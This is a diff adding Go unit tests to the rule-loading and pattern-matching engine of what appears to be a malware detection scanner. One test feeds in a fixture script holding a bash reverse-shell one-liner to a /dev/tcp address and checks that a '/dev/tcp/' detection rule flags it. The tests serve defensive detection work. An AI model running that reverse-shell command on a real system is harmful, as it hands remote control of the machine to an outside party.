@@ -1,6 +1,7 @@
 package rules
 
 import (
+	"bytes"
 	"context"
 	"errors"
 	"os"
@@ -174,5 +175,95 @@ tests: [{fixture: a, match: true}, {fixture: b, match: false}]
 	_, errs := e.Evaluate(context.Background(), &Input{Artifact: Artifact{Format: "elf"}, Facts: map[string]any{"demo": &DemoFacts{Needed: needed}}})
 	if len(errs) != 1 || !strings.Contains(errs[0].Error(), "cost limit") {
 		t.Fatalf("want a cost limit error, got %v", errs)
+	}
+}
+
+func TestLoadDirs(t *testing.T) {
+	packs, err := Load(Sources{Builtin: true, Dirs: []string{"testdata/good"}}, []string{"demo"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, p := range packs {
+		for _, r := range p.Rules {
+			got = append(got, p.Name+" "+r.File+" "+r.ID.Value)
+		}
+	}
+	want := "good testdata/good/shell.yaml backdoor/dev-tcp-shell"
+	if len(got) == 0 || got[len(got)-2] != want {
+		t.Errorf("rules: %q", got)
+	}
+	_, err = Load(Sources{Dirs: []string{"testdata/bad"}}, []string{"demo"})
+	if err == nil || !strings.Contains(err.Error(), "testdata/bad/errors.yaml:1:5: ") {
+		t.Errorf("errors should name the file as given: %v", err)
+	}
+	if _, err := Load(Sources{Dirs: []string{"testdata/nosuch"}}, nil); err == nil || !strings.Contains(err.Error(), "--rules testdata/nosuch") {
+		t.Errorf("missing dir: %v", err)
+	}
+}
+
+func TestNeeds(t *testing.T) {
+	e, err := Compile([]*Pack{load(t, "good")}, demo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if n := e.Needs(); len(n) != 1 || n[0].Name() != "demo" {
+		t.Errorf("needs %v", n)
+	}
+	p := load(t, "good")
+	p.Rules = p.Rules[:1] // the pattern rule reads no facts
+	e, err = Compile([]*Pack{p}, demo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if n := e.Needs(); len(n) != 0 {
+		t.Errorf("needs %v", n)
+	}
+}
+
+func TestMatchAnalyzer(t *testing.T) {
+	e, err := Compile([]*Pack{load(t, "good")}, demo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	m := e.MatchAnalyzer()
+	body := []byte("#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n")
+	a := &analyzers.Artifact{Path: "x.sh", Format: "script", Size: int64(len(body)), Content: bytes.NewReader(body)}
+	if !m.Wants(a) || m.Wants(&analyzers.Artifact{Format: "elf"}) {
+		t.Fatal("Wants should follow the formats of the rules with patterns")
+	}
+	facts, err := m.Analyze(context.Background(), a)
+	if err != nil {
+		t.Fatal(err)
+	}
+	fs, errs := e.Evaluate(context.Background(), &Input{Artifact: Artifact{Path: "x.sh", Format: "script"}, Facts: map[string]any{MatchesName: facts}})
+	if len(errs) != 0 || len(fs) != 1 {
+		t.Fatalf("findings %+v errors %v", fs, errs)
+	}
+	if got := fs[0].Evidence[0]; got != `pattern devtcp: 1 match, first at offset 21: "/dev/tcp/"` {
+		t.Errorf("evidence %q", fs[0].Evidence)
+	}
+}
+
+func TestPatternErrorsNamePositions(t *testing.T) {
+	dir := t.TempDir()
+	os.WriteFile(dir+"/p.yaml", []byte(`id: x/bad-hex
+title: t
+severity: low
+description: d
+applies_to: [any]
+patterns:
+  ok: {literal: "abcd"}
+  broken: {hex: "4D 5A [5-2] 90"}
+condition: ok || broken
+tests: [{fixture: a, match: true}, {fixture: b, match: false}]
+`), 0o644)
+	p, err := LoadPack(os.DirFS(dir), ".", "p", nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, err = Compile([]*Pack{p}, demo)
+	if err == nil || !strings.Contains(err.Error(), "p.yaml:8:11: pattern broken") {
+		t.Fatalf("want the pattern's position, got %v", err)
 	}
 }
